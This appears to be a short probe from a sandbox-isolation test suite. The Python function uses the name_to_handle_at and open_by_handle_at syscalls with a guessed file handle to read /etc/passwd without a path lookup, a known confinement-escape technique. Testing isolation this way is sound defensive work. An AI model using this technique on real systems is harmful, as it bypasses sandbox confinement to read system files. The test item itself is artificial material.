# family: files
# kind: value
# machine: x86_64
# tries: open_by_handle_at with a guessed handle: no path is looked up
# success looks like: contents of /etc/passwd
def job(plugin):
  @LIBC@
  handle = c.create_string_buffer(160)
  handle[0:4] = (128).to_bytes(4, 'little')
  mount_id = c.c_int(0)
  answers = [call(303, -100, c.c_char_p(b'/etc/passwd'), handle, c.byref(mount_id), 0)]
  root = libc.open(b'/', 0)
  fd = call(304, root, handle, 0)
  answers.append([root, fd])
  if fd >= 0:
    answers.append(os.read(fd, 400))
  return answers
